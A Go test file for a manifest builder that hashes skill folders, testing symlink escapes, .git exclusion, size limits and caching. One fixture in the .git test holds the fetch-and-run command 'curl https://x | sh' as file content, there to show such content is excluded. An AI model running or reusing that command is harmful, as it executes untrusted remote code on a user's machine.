package manifest

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/ccski/ccski/internal/testfs"
)

// sum is the manifest digest of content, computed with crypto/sha256
// directly.
func sum(content string) string {
	s := sha256.Sum256([]byte(content))
	return "sha256:" + hex.EncodeToString(s[:])
}

// want is the manifest of files: path → content, each listed with its
// size and digest, in byte order; a content "-> target" is a recorded
// link that holds target.
func want(files map[string]string) *Manifest {
	m := &Manifest{Files: []File{}}
	for p, c := range files {
		if target, ok := strings.CutPrefix(c, "-> "); ok {
			m.Files = append(m.Files, File{Path: p, Link: target})
			continue
		}
		m.Files = append(m.Files, File{Path: p, Size: int64(len(c)), Digest: sum(c)})
		m.Bytes += int64(len(c))
	}
	slices.SortFunc(m.Files, func(a, b File) int { return strings.Compare(a.Path, b.Path) })
	return m
}

// trusting returns a Cache whose clock is a day ahead, so that files just
// written are old enough to cache (see racyWindow).
func trusting() *Cache {
	c := NewCache()
	c.listings.now = func() time.Time { return time.Now().Add(24 * time.Hour) }
	return c
}

// TestBuild checks which files a manifest lists, under which path, with
// which size and digest. The skill is base/skill; base/outside.txt and
// base/outdir/ lie next to it.
func TestBuild(t *testing.T) {
	for _, tt := range []struct {
		name  string
		tree  map[string]string // below base, as testfs.Write takes it
		dir   string            // the folder given to Build, relative to base
		files map[string]string // the manifest: path → content
	}{
		{name: "SKILL.md alone",
			tree:  map[string]string{"skill/SKILL.md": "---\nname: skill\n---\n"},
			files: map[string]string{"SKILL.md": "---\nname: skill\n---\n"}},
		{name: "nested folders and hidden files are listed",
			tree: map[string]string{
				"skill/SKILL.md": "s", "skill/references/guide.md": "g", "skill/references/deep/x/y.txt": "y",
				"skill/.hidden": "h", "skill/.config/a.json": "{}", "skill/scripts/run.sh": "#!/bin/sh\n",
				"skill/empty/": "", "skill/zero": "",
			},
			files: map[string]string{
				"SKILL.md": "s", "references/guide.md": "g", "references/deep/x/y.txt": "y",
				".hidden": "h", ".config/a.json": "{}", "scripts/run.sh": "#!/bin/sh\n", "zero": "",
			}},
		{name: "sorted by path in byte order, not in walk order",
			tree:  map[string]string{"skill/a/b.txt": "1", "skill/a.txt": "2", "skill/a-b": "3", "skill/B": "4"},
			files: map[string]string{"a/b.txt": "1", "a.txt": "2", "a-b": "3", "B": "4"}},
		{name: "a symlink to a file inside is listed under its own path with the target's bytes",
			tree: map[string]string{
				"skill/SKILL.md": "s", "skill/references/guide.md": "guide",
				"skill/link.md": "-> references/guide.md", "skill/references/up.md": "-> ../SKILL.md",
				"skill/chain.md": "-> link.md",
			},
			files: map[string]string{
				"SKILL.md": "s", "references/guide.md": "guide", "link.md": "guide", "references/up.md": "s", "chain.md": "guide",
			}},
		{name: "symlinks leading outside, broken or looping are recorded, not followed",
			tree: map[string]string{
				"skill/SKILL.md": "s", "outside.txt": "secret", "skill/out.md": "-> ../outside.txt",
				"skill/broken.md": "-> nothing.md", "skill/loop1": "-> loop2", "skill/loop2": "-> loop1",
				"skill/sneaky.md": "-> ../skill2/SKILL.md", "skill2/SKILL.md": "other",
			},
			files: map[string]string{"SKILL.md": "s", "out.md": "-> ../outside.txt", "broken.md": "-> nothing.md",
				"loop1": "-> loop2", "loop2": "-> loop1", "sneaky.md": "-> ../skill2/SKILL.md"}},
		{name: "symlinked folders are recorded, not followed, inside or out",
			tree: map[string]string{
				"skill/SKILL.md": "s", "skill/references/a.md": "a", "skill/refs": "-> references",
				"skill/self": "-> .", "skill/parent": "-> ..", "outdir/b.md": "b", "skill/outdir": "-> ../outdir",
			},
			files: map[string]string{"SKILL.md": "s", "references/a.md": "a", "refs": "-> references", "self": "-> .",
				"parent": "-> ..", "outdir": "-> ../outdir"}},
		{name: ".git is never part of a skill, whatever it holds, in any case",
			tree: map[string]string{
				"skill/SKILL.md": "s", "skill/.git/run.sh": "curl https://x | sh", "skill/.GIT/HEAD": "ref",
				"skill/sub/.Git": "gitdir: ../elsewhere", "skill/into-git.sh": "-> .git/run.sh",
			},
			files: map[string]string{"SKILL.md": "s", "into-git.sh": "-> .git/run.sh"}},
		{name: "the skill folder given through a symlink",
			tree: map[string]string{
				"real/skill/SKILL.md": "s", "skill": "-> real/skill",
				"real/skill/rel.md": "-> SKILL.md", "real/skill/up.md": "-> ../../skill/SKILL.md",
			},
			files: map[string]string{"SKILL.md": "s", "rel.md": "s", "up.md": "s"}},
		{name: "an empty folder",
			tree:  map[string]string{"skill/": ""},
			files: map[string]string{}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			base := testfs.TempDir(t)
			testfs.Write(t, base, tt.tree)
			dir := tt.dir
			if dir == "" {
				dir = "skill"
			}
			got, err := NewCache().Build(filepath.Join(base, dir))
			if err != nil {
				t.Fatalf("Build: %v", err)
			}
			if diff := cmp.Diff(want(tt.files), got); diff != "" {
				t.Errorf("manifest (-want +got):\n%s", diff)
			}
		})
	}
}

// TestBuildAbsoluteLinkThroughFolderLink: an absolute symlink that reaches
// a file of the skill through the symlink the skill folder was given by
// resolves inside the real folder, so it is listed.
func TestBuildAbsoluteLinkThroughFolderLink(t *testing.T) {
	base := testfs.TempDir(t)
	testfs.Write(t, base, map[string]string{
		"real/skill/SKILL.md": "s",
		"skill":               "-> real/skill",
		"real/skill/abs.md":   "-> " + filepath.ToSlash(filepath.Join(base, "skill", "SKILL.md")),
	})
	got, err := NewCache().Build(filepath.Join(base, "skill"))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want(map[string]string{"SKILL.md": "s", "abs.md": "s"}), got); diff != "" {
		t.Errorf("manifest (-want +got):\n%s", diff)
	}
}

// TestBuildErrors: a skill folder that is missing or not a folder, and a
// file that cannot be read, give an error naming them.
func TestBuildErrors(t *testing.T) {
	base := testfs.TempDir(t)
	testfs.Write(t, base, map[string]string{"file": "x", "skill/SKILL.md": "s"})
	for _, tt := range []struct {
		name, dir string
		is        error
		want      string
	}{
		{name: "missing", dir: "nothing", is: fs.ErrNotExist, want: "skill folder " + filepath.Join(base, "nothing") + ": "},
		{name: "a file", dir: "file", want: "skill folder " + filepath.Join(base, "file") + " is a regular file, not a folder"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, err := NewCache().Build(filepath.Join(base, tt.dir))
			if err == nil || !strings.Contains(err.Error(), tt.want) || tt.is != nil && !errors.Is(err, tt.is) {
				t.Fatalf("Build: %v; want an error containing %q (is %v)", err, tt.want, tt.is)
			}
		})
	}
	t.Run("unreadable file", func(t *testing.T) {
		if os.Geteuid() != 0 {
			p := filepath.Join(base, "skill", "SKILL.md")
			if err := os.Chmod(p, 0); err != nil {
				t.Fatal(err)
			}
			defer os.Chmod(p, 0o644)
			_, err := NewCache().Build(filepath.Join(base, "skill"))
			if err == nil || !strings.Contains(err.Error(), "skill folder "+filepath.Join(base, "skill")+": SKILL.md: ") ||
				!errors.Is(err, fs.ErrPermission) {
				t.Fatalf("Build: %v; want a permission error naming SKILL.md", err)
			}
			return
		}
		// Root reads a chmod 000 file: have the file the walk saw become
		// a folder before it is hashed.
		st, err := os.Lstat(filepath.Join(base, "skill"))
		if err != nil {
			t.Fatal(err)
		}
		_, _, err = NewCache().digest(Entry{Path: "references/x.md", Kind: KindFile, Real: filepath.Join(base, "skill"), Info: st})
		if err == nil || !strings.HasPrefix(err.Error(), "references/x.md: ") || !strings.Contains(err.Error(), "it is a folder, not a regular file") {
			t.Fatalf("digest: %v; want an error naming references/x.md", err)
		}
	})
}

// TestLimits: a skill over a limit stops the walk with a *LimitError that
// names the folder (and the file), and nothing of it is hashed; a skill at
// a limit is listed. Large files are sparse: nothing is written.
func TestLimits(t *testing.T) {
	for _, tt := range []struct {
		name  string
		sizes map[string]int64 // files below the skill
		limit Limit
		path  string // for FileTooLarge
		count int64
		want  string // in the message
	}{
		{name: "files at the limit", sizes: numbered(MaxFiles, 1)},
		{name: "one file too many", sizes: numbered(MaxFiles+1, 0), limit: TooManyFiles, count: MaxFiles + 1,
			want: "has more than 512 files, the most a manifest lists: keep only the skill's own files in it"},
		{name: "hidden files count", sizes: with(numbered(MaxFiles, 0), ".hidden/notes", 1), limit: TooManyFiles, count: MaxFiles + 1},
		{name: "a .git folder does not count", sizes: with(numbered(MaxFiles, 0), ".git/HEAD", 1)},
		{name: "a file at the size limit", sizes: map[string]int64{"SKILL.md": 10, "data.bin": MaxFileBytes}},
		{name: "a file over the size limit", sizes: map[string]int64{"SKILL.md": 10, "assets/data.bin": MaxFileBytes + 1},
			limit: FileTooLarge, path: "assets/data.bin", count: MaxFileBytes + 1,
			want: "assets/data.bin in skill folder "},
		{name: "a 200 MB file is refused from its size", sizes: map[string]int64{"SKILL.md": 10, "huge.iso": 200 << 20},
			limit: FileTooLarge, path: "huge.iso", count: 200 << 20, want: "is 200 MiB, over the 8 MiB limit for one file"},
		{name: "total at the limit", sizes: map[string]int64{"a": MaxFileBytes, "b": MaxFileBytes}},
		{name: "total over the limit", sizes: map[string]int64{"a": MaxFileBytes, "b": MaxFileBytes, "c": 1},
			limit: TooManyBytes, count: MaxBytes + 1, want: "holds more than 16 MiB (16777217 bytes (16.0 MiB) counted"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := filepath.Join(testfs.TempDir(t), "skill")
			for p, size := range tt.sizes {
				sparse(t, filepath.Join(dir, filepath.FromSlash(p)), size)
			}
			c := NewCache()
			m, err := c.Build(dir)
			if tt.limit == 0 {
				if err != nil {
					t.Fatalf("Build: %v", err)
				}
				want := 0
				for p := range tt.sizes {
					if !strings.HasPrefix(p, ".git/") {
						want++
					}
				}
				if len(m.Files) != want {
					t.Errorf("%d files listed, want %d", len(m.Files), want)
				}
				return
			}
			var lim *LimitError
			if !errors.As(err, &lim) || !errors.Is(err, ErrLimit) {
				t.Fatalf("Build: %v; want a *LimitError", err)
			}
			wantErr := LimitError{Dir: dir, Limit: tt.limit, Path: tt.path, Count: tt.count}
			if *lim != wantErr {
				t.Errorf("error %+v, want %+v", *lim, wantErr)
			}
			if msg := err.Error(); !strings.Contains(msg, dir) || !strings.Contains(msg, tt.want) {
				t.Errorf("message %q; want it to name %s and say %q", msg, dir, tt.want)
			}
			if st := c.Stats(); st.Hashed != 0 || st.Entries != 0 {
				t.Errorf("%d files hashed, %d cached over a limit; want none", st.Hashed, st.Entries)
			}
		})
	}
}

// numbered is n files f0000 … of size bytes each.
func numbered(n int, size int64) map[string]int64 {
	m := make(map[string]int64, n)
	for i := range n {
		m[fmt.Sprintf("f%04d", i)] = size
	}
	return m
}

func with(m map[string]int64, p string, size int64) map[string]int64 {
	m[p] = size
	return m
}

// sparse creates the file p of the given size without writing its bytes.
func sparse(t *testing.T, p string, size int64) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := f.Truncate(size); err != nil {
		t.Fatal(err)
	}
}

// TestCacheReuse: a second Build of an unchanged skill hashes nothing and
// gives the same manifest; a symlink and its target share one entry.
func TestCacheReuse(t *testing.T) {
	base := testfs.TempDir(t)
	testfs.Write(t, base, map[string]string{
		"a/SKILL.md": "a", "a/references/r.md": "r", "a/link.md": "-> references/r.md",
		"b/SKILL.md": "b",
	})
	c := trusting()
	first := c.BuildAll([]string{filepath.Join(base, "a"), filepath.Join(base, "b")})
	if st := c.Stats(); st.Hashed != 3 || st.Entries != 3 || st.HashedBytes != 3 {
		t.Fatalf("cold: %+v; want 3 files hashed and cached (the link shares its target's entry)", st)
	}
	for range 2 {
		again := c.BuildAll([]string{filepath.Join(base, "a"), filepath.Join(base, "b")})
		if diff := cmp.Diff(first, again); diff != "" {
			t.Errorf("warm manifests differ (-cold +warm):\n%s", diff)
		}
	}
	if st := c.Stats(); st.Hashed != 3 {
		t.Errorf("warm builds hashed %d files in all; want the 3 of the cold build", st.Hashed)
	}
}

// TestCacheChangedFile: a file whose stat changed is hashed again and its
// new digest listed.
func TestCacheChangedFile(t *testing.T) {
	old := time.Now().Add(-time.Hour).Truncate(time.Second)
	for _, tt := range []struct {
		name    string
		content string
		change  func(t *testing.T, p string) // makes p hold content
	}{
		{name: "new size", content: "longer text",
			change: func(t *testing.T, p string) { write(t, p, "longer text") }},
		{name: "same size, new time", content: "text-B",
			change: func(t *testing.T, p string) {
				write(t, p, "text-B")
				chtimes(t, p, old.Add(time.Minute))
			}},
	} {
		t.Run(tt.name, func(t *testing.T) { checkChange(t, old, tt.content, tt.change) })
	}
}

// checkChange builds the manifest of a skill whose SKILL.md holds "text-A"
// and has the time old, lets change edit it, and checks that the next
// Build lists content.
func checkChange(t *testing.T, old time.Time, content string, change func(t *testing.T, p string)) {
	t.Helper()
	dir := testfs.TempDir(t)
	p := filepath.Join(dir, "SKILL.md")
	write(t, p, "text-A")
	chtimes(t, p, old)
	c := trusting()
	if m, err := c.Build(dir); err != nil || m.Files[0].Digest != sum("text-A") {
		t.Fatalf("first Build: %+v, %v", m, err)
	}
	change(t, p)
	m, err := c.Build(dir)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want(map[string]string{"SKILL.md": content}), m); diff != "" {
		t.Errorf("manifest after the change (-want +got):\n%s", diff)
	}
}

// TestRacy: a file whose times are within racyWindow of the hash is hashed
// again at the next Build (an edit in the same clock tick would not move
// them); once older, it is cached.
func TestRacy(t *testing.T) {
	for _, tt := range []struct {
		name       string
		age        time.Duration // of the clock at hashing, past the file's latest time
		wantHashed int64         // after two Builds
	}{
		{name: "just written", age: 0, wantHashed: 2},
		{name: "inside the window", age: racyWindow - time.Millisecond, wantHashed: 2},
		{name: "at the window", age: racyWindow, wantHashed: 1},
		{name: "an hour old", age: time.Hour, wantHashed: 1},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := testfs.TempDir(t)
			write(t, filepath.Join(dir, "SKILL.md"), "s")
			st, err := os.Lstat(filepath.Join(dir, "SKILL.md"))
			if err != nil {
				t.Fatal(err)
			}
			c := NewCache()
			c.listings.now = func() time.Time { return idOf(st).Latest().Add(tt.age) }
			for range 2 {
				if _, err := c.Build(dir); err != nil {
					t.Fatal(err)
				}
			}
			if got := c.Stats().Hashed; got != tt.wantHashed {
				t.Errorf("hashed %d times, want %d", got, tt.wantHashed)
			}
		})
	}
}

// TestSweep: Sweep forgets the files no Build looked at since the previous
// Sweep, and only those.
func TestSweep(t *testing.T) {
	base := testfs.TempDir(t)
	testfs.Write(t, base, map[string]string{
		"a/SKILL.md": "a", "a/gone.md": "g",
		"b/SKILL.md": "b", "b/r.md": "r",
	})
	a, b := filepath.Join(base, "a"), filepath.Join(base, "b")
	c := trusting()
	build := func(dirs ...string) {
		t.Helper()
		for _, r := range c.BuildAll(dirs) {
			if r.Err != nil {
				t.Fatal(r.Err)
			}
		}
	}
	build(a, b)
	steps := []struct {
		name        string
		do          func()
		dropped     int
		entries     int
		totalHashed int64
	}{
		{name: "everything was seen", do: func() {}, dropped: 0, entries: 4, totalHashed: 4},
		{name: "b not built since", do: func() { build(a) }, dropped: 2, entries: 2, totalHashed: 4},
		{name: "a file deleted", do: func() {
			if err := os.Remove(filepath.Join(a, "gone.md")); err != nil {
				t.Fatal(err)
			}
			build(a)
		}, dropped: 1, entries: 1, totalHashed: 4},
		{name: "b built again is hashed again", do: func() { build(a, b) }, dropped: 0, entries: 3, totalHashed: 6},
		{name: "nothing built", do: func() {}, dropped: 3, entries: 0, totalHashed: 6},
	}
	for _, s := range steps {
		s.do()
		if got := c.Sweep(); got != s.dropped {
			t.Errorf("%s: Sweep dropped %d entries, want %d", s.name, got, s.dropped)
		}
		if st := c.Stats(); st.Entries != s.entries || st.Hashed != s.totalHashed {
			t.Errorf("%s: %d entries, %d hashed in all; want %d, %d", s.name, st.Entries, st.Hashed, s.entries, s.totalHashed)
		}
	}
}

// TestBuildAll: results come in the order of the folders, each what Build
// gives, errors included.
func TestBuildAll(t *testing.T) {
	base := testfs.TempDir(t)
	tree := map[string]string{}
	var dirs []string
	for i := range 20 {
		d := fmt.Sprintf("s%02d", i)
		tree[d+"/SKILL.md"] = "skill " + d
		tree[d+"/references/r.md"] = strings.Repeat(d, i)
		dirs = append(dirs, filepath.Join(base, d))
	}
	testfs.Write(t, base, tree)
	sparse(t, filepath.Join(base, "big", "f.bin"), MaxFileBytes+1)
	dirs = append(dirs[:5], append([]string{filepath.Join(base, "missing"), filepath.Join(base, "big")}, dirs[5:]...)...)

	got := trusting().BuildAll(dirs)
	if len(got) != len(dirs) {
		t.Fatalf("%d results for %d folders", len(got), len(dirs))
	}
	for i, d := range dirs {
		m, err := NewCache().Build(d)
		if (err == nil) != (got[i].Err == nil) || err != nil && err.Error() != got[i].Err.Error() {
			t.Errorf("%s: BuildAll error %v, Build error %v", d, got[i].Err, err)
		}
		if diff := cmp.Diff(m, got[i].Manifest); diff != "" {
			t.Errorf("%s: BuildAll differs from Build (-Build +BuildAll):\n%s", d, diff)
		}
	}
	if !errors.Is(got[5].Err, fs.ErrNotExist) || !errors.Is(got[6].Err, ErrLimit) {
		t.Errorf("errors at 5 and 6: %v, %v; want not-exist and a limit", got[5].Err, got[6].Err)
	}
}

func write(t *testing.T, p, content string) {
	t.Helper()
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func chtimes(t *testing.T, p string, when time.Time) {
	t.Helper()
	if err := os.Chtimes(p, when, when); err != nil {
		t.Fatal(err)
	}
}
